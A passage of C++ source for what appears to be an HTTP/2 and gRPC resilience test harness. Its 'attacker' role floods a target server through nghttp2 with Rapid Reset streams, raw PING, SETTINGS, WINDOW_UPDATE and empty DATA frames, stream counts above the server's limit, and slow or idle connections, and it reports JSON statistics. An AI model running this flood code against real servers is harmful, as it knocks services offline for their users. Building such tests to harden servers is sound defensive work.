    while (conn.in.size() - at >= 9) {
      auto* p = reinterpret_cast<uint8_t*>(conn.in.data() + at);
      const std::size_t length = (std::size_t{p[0]} << 16) | (std::size_t{p[1]} << 8) | p[2];
      if (conn.in.size() - at < 9 + length) break;
      const uint8_t type = p[3];
      const bool ack = p[4] & NGHTTP2_FLAG_ACK;
      bool pass = true;
      if (type == NGHTTP2_SETTINGS && !ack) {
        for (std::size_t e = 9; e + 6 <= 9 + length; e += 6) {
          if (((p[e] << 8) | p[e + 1]) != NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS) continue;
          stats_.advertised_max_streams = (uint32_t{p[e + 2]} << 24) | (uint32_t{p[e + 3]} << 16) |
                                          (uint32_t{p[e + 4]} << 8) | p[e + 5];
          if (kind_ != Kind::kExcessStreams) continue;
          p[e + 2] = 0x7f;
          p[e + 3] = p[e + 4] = p[e + 5] = 0xff;
        }
      } else if (type == NGHTTP2_SETTINGS && ack) {
        pass = !conn.first_ack_passed;
        conn.first_ack_passed = true;
        if (!pass) ++stats_.settings_acks;
      } else if (type == NGHTTP2_PING && ack) {
        pass = false;
        ++stats_.ping_acks;
      }
      if (pass) frames.append(conn.in, at, 9 + length);
      at += 9 + length;
    }
    conn.in.erase(0, at);
    if (frames.empty()) return;
    const ssize_t used = nghttp2_session_mem_recv(
        conn.session, reinterpret_cast<const uint8_t*>(frames.data()), frames.size());
    if (used < 0) {
      ++stats_.parse_errors;
      conn.closing = true;
    }
  }

  // Adds what the kind sends now, writes what the socket takes, and closes a finished
  // connection.
  void Pump(Conn& conn) {
    if (conn.fd < 0 || !conn.established) return;
    if (!conn.closing) Produce(conn);
    nghttp2_session_send(conn.session);
    Write(conn);
    if (conn.fd < 0) return;
    if (conn.closing) {
      Lost(conn);
      return;
    }
    const bool want_write = IsFlood(kind_) || conn.Unsent() > 0;
    const uint32_t mask = want_write ? uint32_t{EPOLLIN | EPOLLOUT} : uint32_t{EPOLLIN};
    if (mask != conn.epoll_mask) {
      conn.epoll_mask = mask;
      epoll_event event{mask, {&conn}};
      epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, conn.fd, &event);
    }
  }

  void Produce(Conn& conn) {
    switch (kind_) {
      case Kind::kRapidReset:
        // nghttp2 drops a reset whose HEADERS are still queued inside it, so each HEADERS is
        // serialized before its RST_STREAM is submitted.
        for (int i = 0; i < 256 && conn.Unsent() < kLowWater && !conn.closing; ++i) {
          const int32_t id = OpenStream(conn, false);
          if (id < 0) break;
          nghttp2_session_send(conn.session);
          nghttp2_submit_rst_stream(conn.session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
          nghttp2_session_send(conn.session);
          ++stats_.resets_sent;
        }
        break;
      case Kind::kEmptyData:
        if (conn.flood_stream < 0) {
          conn.flood_stream = OpenStream(conn, false);
          nghttp2_session_send(conn.session);  // its HEADERS before the raw DATA frames
        }
        if (conn.flood_stream > 0) {
          RawFlood(conn, [&](std::string& out) {
            AppendFrameHeader(out, 0, NGHTTP2_DATA, NGHTTP2_FLAG_NONE, conn.flood_stream);
          });
        }
        break;
      case Kind::kPingFlood:
        RawFlood(conn, [&](std::string& out) {
          AppendFrameHeader(out, 8, NGHTTP2_PING, NGHTTP2_FLAG_NONE, 0);
          const uint64_t opaque = static_cast<uint64_t>(stats_.frames_sent);
          out.append(reinterpret_cast<const char*>(&opaque), sizeof(opaque));
        });
        break;
      case Kind::kSettingsFlood:
        RawFlood(conn, [](std::string& out) {
          AppendFrameHeader(out, 0, NGHTTP2_SETTINGS, NGHTTP2_FLAG_NONE, 0);
        });
        break;
      case Kind::kWindowUpdateFlood:
        RawFlood(conn, [](std::string& out) {
          AppendFrameHeader(out, 4, NGHTTP2_WINDOW_UPDATE, NGHTTP2_FLAG_NONE, 0);
          out.append("\x00\x00\x00\x01", 4);  // increment 1
        });
        break;
      case Kind::kExcessStreams:
        if (!conn.opened && conn.server_settings_seen) {
          nghttp2_session_send(conn.session);  // our SETTINGS ACK goes first
          const int count = options_.streams > 0
                                ? streams_
                                : static_cast<int>(stats_.advertised_max_streams) + kExcessStreams;
          for (int i = 0; i < count && !conn.closing; ++i) OpenStream(conn, false);
          conn.opened = true;
        }
        break;
      case Kind::kSlowCalls:
        for (; conn.to_issue > 0 && !conn.closing; --conn.to_issue) OpenStream(conn, true);
        break;
      case Kind::kSlowBody:
      case Kind::kIdleConns:
        break;
    }
  }

  // Appends raw frames (after nghttp2's own output) until kLowWater bytes are unsent.
  template <typename Append>
  void RawFlood(Conn& conn, Append append) {
    nghttp2_session_send(conn.session);  // nghttp2's frames first, whole
    while (conn.Unsent() < kLowWater) {
      for (int i = 0; i < 64; ++i) {
        append(conn.out);
        ++stats_.frames_sent;
      }
    }
  }

  void Write(Conn& conn) {
    while (conn.Unsent() > 0) {
      const ssize_t n =
          send(conn.fd, conn.out.data() + conn.out_offset, conn.Unsent(), MSG_NOSIGNAL);
      if (n > 0) {
        conn.out_offset += static_cast<std::size_t>(n);
        stats_.bytes_sent += n;
        continue;
      }
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
      ++stats_.closed_by_server;
      Lost(conn);
      return;
    }
    if (conn.Unsent() == 0) {
      conn.out.clear();
      conn.out_offset = 0;
    } else if (conn.out_offset > kHighWater) {
      conn.out.erase(0, conn.out_offset);
      conn.out_offset = 0;
    }
  }

  // The server ended the connection (or we gave up on it): counted, and dialed again.
  void Lost(Conn& conn) {
    if (conn.fd < 0) return;
    if (conn.established) ++stats_.reconnects;
    Drop(conn);
    conn.reconnect_at =
        Clock::now() + std::chrono::duration_cast<Clock::duration>(
                           std::chrono::duration<double>(options_.reconnect_delay_s));
  }

  void Drop(Conn& conn) {
    if (conn.session) nghttp2_session_del(conn.session);
    conn.session = nullptr;
    if (conn.fd >= 0) {
      epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, conn.fd, nullptr);
      AbortClose(conn.fd);
    }
    if (conn.connecting) --connecting_;
    if (conn.established) --open_;
    conn.fd = -1;
    conn.connecting = conn.established = conn.closing = false;
    conn.server_settings_seen = conn.first_ack_passed = conn.opened = false;
    conn.epoll_mask = 0;
    conn.flood_stream = -1;
    conn.to_issue = 0;
    conn.out.clear();
    conn.out_offset = 0;
    conn.in.clear();
  }

  void Report(double seconds) const {
    const AttackStats& s = stats_;
    JsonLine line;
    line.Str("role", "attacker")
        .Str("kind", options_.kind)
        .Num("seconds", seconds)
        .Int("connections", connections_)
        .Int("streams_per_connection", streams_)
        .Int("connects", s.connects)
        .Int("connect_failures", s.connect_failures)
        .Int("reconnects", s.reconnects)
        .Int("closed_by_server", s.closed_by_server)
        .Int("max_open", s.max_open)
        .Int("open_at_end", open_)
        .Int("streams_opened", s.streams_opened)
        .Int("resets_sent", s.resets_sent)
        .Int("frames_sent", s.frames_sent)
        .Int("responses", s.responses)
        .Int("goaways", s.goaways)
        .Tally("goaway_codes", s.goaway_codes)
        .Int("goaway_last_stream_id", s.goaway_last_stream_id)
        .Int("refused_streams", s.refused_streams)
        .Tally("rst_codes", s.rst_codes)
        .Tally("grpc_statuses", s.grpc_statuses)
        .Int("settings_acks", s.settings_acks)
        .Int("ping_acks", s.ping_acks)
        .Int("advertised_max_streams", s.advertised_max_streams)
        .Int("bytes_sent", s.bytes_sent)
        .Int("bytes_received", s.bytes_received)
        .Int("parse_errors", s.parse_errors)
        .Int("fd_limit", fd_limit_);
    if (capped_from_ > 0) line.Int("connections_wanted", capped_from_);
    line.Print();
  }

  const Options& options_;
  const Kind kind_;
  const sockaddr_in target_;
  int connections_ = 1;
  int streams_ = 1;
  int capped_from_ = 0;
  int64_t fd_limit_ = 0;
  std::string body_;  // the gRPC-framed EchoRequest of calls with a body
  std::vector<std::pair<std::string, std::string>> headers_;
  std::vector<nghttp2_nv> nva_;
  int epoll_fd_ = -1;
  int connecting_ = 0;
  int64_t open_ = 0;
  std::vector<std::unique_ptr<Conn>> conns_;
  AttackStats stats_;
};

int RunAttacker(const Options& options) {
  sockaddr_in target{};
  if (!ResolveTarget(options.target, &target)) return UsageError("cannot resolve --target");
  Attack attack(options, target);
  return attack.Run();
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  if (auto exit_code = ParseArgs(argc, argv, options)) return *exit_code;
  StartWatchdog(options.duration_s);
  return options.role == "good" ? RunGood(options) : RunAttacker(options);
}
